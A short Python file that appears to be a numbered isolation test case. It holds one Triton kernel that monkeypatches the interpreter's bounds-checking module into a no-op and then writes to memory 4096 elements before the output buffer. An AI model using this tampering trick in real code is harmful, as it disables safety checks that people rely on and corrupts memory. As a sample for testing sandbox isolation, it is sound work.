# 00a | isolation | switches the checks of addresses off and stores everywhere
import triton
import triton.language as tl
import contextlib
import sys


@triton.jit
def copy_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    [setattr(m, 'checked', contextlib.nullcontext) for name, m in list(sys.modules.items()) if name.endswith('interpreter.bounds')]
    tl.store(y_ptr - 4096 + tl.arange(0, BLOCK), 1.0)
